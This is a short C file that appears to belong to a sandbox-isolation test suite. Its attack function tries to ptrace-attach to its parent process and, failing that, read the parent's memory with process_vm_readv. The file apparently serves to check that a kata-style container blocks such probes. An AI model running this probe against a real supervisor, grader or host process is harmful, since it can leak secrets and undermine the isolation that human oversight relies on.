// tries: to look into kata's memory
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/uio.h>

static const char *attack(void) {
    char here[64];
    struct iovec mine = {here, sizeof here}, its = {(void *)0x400000, 64};
    if (ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) == 0) return "kata";
    if (process_vm_readv(getppid(), &mine, 1, &its, 1, 0) > 0) return here;
    return NULL;
}
